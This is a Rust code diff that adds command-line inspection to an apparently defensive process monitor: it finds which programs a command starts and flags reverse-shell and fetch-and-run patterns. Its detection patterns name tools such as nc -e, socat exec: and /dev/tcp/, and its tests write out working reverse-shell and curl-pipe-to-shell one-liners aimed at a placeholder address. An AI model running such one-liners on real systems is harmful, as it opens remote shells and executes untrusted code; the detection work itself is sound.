@@ -98,13 +98,78 @@ pub(super) fn miner_word(line: &str) -> Option<&str> {
     })
 }
 
+/// Programs and words that only lead to the program that is meant.
+#[rustfmt::skip]
+const LEADERS: &[&str] = &[
+    "chroot", "chrt", "command", "do", "doas", "elif", "else", "env", "exec", "flock", "if", "ionice", "nice",
+    "nohup", "runuser", "setsid", "stdbuf", "su", "sudo", "taskset", "then", "time", "timeout", "unshare", "until",
+    "while",
+];
+
+/// The paths that a command line starts: its program, what its interpreter or shell is told to run, and the first
+/// words of the parts of a shell's text.
+pub(super) fn started(line: &str) -> Vec<&str> {
+    let mut paths = Vec::new();
+    for part in line.split([';', '&', '|', '(', ')', '`', '{', '}']) {
+        for word in part.split([' ', '\t', '"', '\'']).filter(|word| !word.is_empty()) {
+            if word.starts_with('/') {
+                paths.push(word);
+            }
+            let name = word.rsplit('/').next().unwrap_or(word);
+            let leads = word.starts_with('-')
+                || word.contains('=')
+                || LEADERS.binary_search(&name).is_ok()
+                || is_shell(name)
+                || is_interpreter(name);
+            if !leads {
+                break;
+            }
+        }
+    }
+    paths
+}
+
+/// What a shell's text does that no honest service does.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Trick {
+    /// Ties a shell to a connection.
+    RemoteShell,
+    /// Runs what it fetches or unpacks from a disguise.
+    FetchAndRun,
+}
+
+/// The trick in a command line.
+pub(super) fn shell_trick(line: &str) -> Option<Trick> {
+    let has = |words: &[&str]| words.iter().any(|word| line.contains(word));
+    let connects = has(&["/dev/tcp/", "/dev/udp/"]);
+    let interactive = has(&["sh -i", "0>&1", "<&1", "0<&", "<&3", "<&5", ">&5", ">&3"]);
+    let handed = has(&["nc -e ", "nc -c ", "ncat -e ", "ncat -c ", "ncat --exec", "ncat --sh-exec"])
+        || line.contains("socat ") && has(&["exec:", "EXEC:", "system:", "SYSTEM:"])
+        || line.contains("socket.socket") && has(&["os.dup2", "pty.spawn", "subprocess."])
+        || has(&["mkfifo "]) && has(&["nc ", "ncat ", "openssl s_client", "telnet "]);
+    if connects && interactive || handed {
+        return Some(Trick::RemoteShell);
+    }
+    let piped = line.split('|').skip(1).any(|part| {
+        let first =
+            part.trim_start().trim_start_matches("sudo ").split([' ', '"', '\'']).next().unwrap_or_default();
+        let name = first.rsplit('/').next().unwrap_or(first);
+        is_shell(name) || is_interpreter(name) && !["awk", "gawk", "mawk", "nc", "ncat"].contains(&name)
+    });
+    let brought =
+        has(&["curl ", "wget ", "base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc -d"]);
+    let fetched = ["$(curl ", "$(wget ", "`curl ", "`wget ", "<(curl ", "<(wget "];
+    (brought && piped || has(&fetched) && has(&["sh -c", "eval ", "bash <(", "sh <("]))
+        .then_some(Trick::FetchAndRun)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
     #[test]
     fn lists_are_sorted_for_the_search() {
-        for list in [SHELLS, INTERPRETERS, READERS, MINERS] {
+        for list in [SHELLS, INTERPRETERS, READERS, MINERS, LEADERS] {
             assert!(list.is_sorted(), "{list:?}");
         }
     }
@@ -163,5 +228,49 @@ mod tests {
             assert!(miner_word(line).is_none() || by_reader, "{line}");
         }
         assert!(is_reader("grep") && is_reader("bash") && !is_reader("python3"));
+    }
+
+    #[test]
+    fn what_a_command_line_starts_is_found_behind_shells_and_in_their_text() {
+        for (line, paths) in [
+            ("/usr/sbin/sshd -D -f /tmp/config", &["/usr/sbin/sshd"][..]),
+            ("/bin/sh -c '/tmp/x --now; cat /tmp/log'", &["/bin/sh", "/tmp/x"]),
+            ("/usr/bin/env A=/tmp/a python3 -u /dev/shm/x.py /tmp/out", &["/usr/bin/env", "/dev/shm/x.py"]),
+            ("/bin/bash -c \"cp /a /tmp/b && exec /tmp/b\"", &["/bin/bash", "/tmp/b"]),
+            ("/usr/bin/java -jar /opt/app.jar", &["/usr/bin/java"]),
+            ("cron", &[]),
+        ] {
+            assert_eq!(started(line), paths, "{line}");
+        }
+    }
+
+    #[test]
+    fn tricks_of_shells_are_told_from_what_scripts_do() {
+        for line in [
+            "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
+            "/bin/sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'",
+            "/usr/bin/nc -e /bin/sh 203.0.113.9 4444",
+            "/usr/bin/socat tcp:203.0.113.9:4444 exec:/bin/sh,pty",
+            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+        ] {
+            assert_eq!(shell_trick(line), Some(Trick::RemoteShell), "{line}");
+        }
+        for line in [
+            "/bin/sh -c 'curl -fsSL http://203.0.113.9/x | bash'",
+            "sh -c 'echo aGk= | base64 -d | sh'",
+            "bash -c \"wget -qO- http://x/y | sudo python3\"",
+            "bash <(curl -s http://x)",
+        ] {
+            assert_eq!(shell_trick(line), Some(Trick::FetchAndRun), "{line}");
+        }
+        for line in [
+            "/bin/bash -c 'until (echo > /dev/tcp/localhost/5432); do sleep 1; done'",
+            "/bin/sh -c 'curl -fs http://localhost/health | grep ok'",
+            "/usr/bin/curl -m 10 https://hc-ping.com/x",
+            "/bin/sh -c 'pg_dump app | gzip > /backup/app.gz'",
+            "/usr/sbin/sshd -D",
+        ] {
+            assert_eq!(shell_trick(line), None, "{line}");
+        }
     }
 }
